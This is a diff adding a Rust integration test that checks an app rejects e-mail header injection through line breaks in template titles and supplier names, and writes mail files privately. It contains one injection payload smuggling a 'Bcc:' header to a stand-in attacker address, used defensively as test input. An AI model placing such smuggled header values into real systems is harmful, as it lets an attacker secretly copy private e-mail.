@@ -75,3 +75,33 @@ async fn any_document_name_uploads_clean_and_downloads() {
         "attachment; filename=\"Richtlinie f_r Lieferanten.pdf\"; filename*=UTF-8''Richtlinie%20f%C3%BCr%20Lieferanten.pdf"
     );
 }
+
+/// Finding 9: a line break in a title or name could start an e-mail header (`Bcc:`) in the
+/// written message. Names and titles are one line, refused by field otherwise; messages are
+/// built by lettre in both modes and written readable by the owner only (live links).
+#[tokio::test]
+async fn names_and_titles_are_one_line_and_mail_files_are_private() {
+    use std::os::unix::fs::PermissionsExt;
+    let app = spawn_app().await;
+    let analyst = app.account("acme", Role::Analyst).await;
+    let t = Some(analyst.token.as_str());
+    let injected = "Vendor check\r\nBcc: thief@evil.example";
+    let create = "mutation($i: NewQuestionnaireTemplate!) { createQuestionnaireTemplate(input: $i) { id } }";
+    let refused = app.gql(t, create, json!({"i": {"title": injected}})).await;
+    assert_eq!(error_code(&refused), "VALIDATION", "{refused}");
+    assert_eq!(refused["errors"][0]["extensions"]["fieldErrors"][0]["field"], "input.title", "{refused}");
+    let supplier = "mutation($i: NewSupplier!) { createSupplier(input: $i) { id } }";
+    let refused =
+        app.gql(t, supplier, json!({"i": {"legalName": injected, "country": "DE", "category": "SaaS"}})).await;
+    assert_eq!(error_code(&refused), "VALIDATION", "{refused}");
+    assert!(refused.to_string().contains("one line without control characters"), "{refused}");
+
+    sent_assessment(&app, &analyst.token, "private@supplier.example").await;
+    app.wait_for_queued_mail().await;
+    let folder = app.data_dir.join("mail");
+    for file in std::fs::read_dir(&folder).unwrap().flatten() {
+        assert_eq!(file.metadata().unwrap().permissions().mode() & 0o777, 0o600, "{}", file.path().display());
+        let text = std::fs::read_to_string(file.path()).unwrap();
+        assert!(text.contains("MIME-Version: 1.0") && text.contains("Content-Transfer-Encoding: 8bit"), "{text}");
+    }
+}
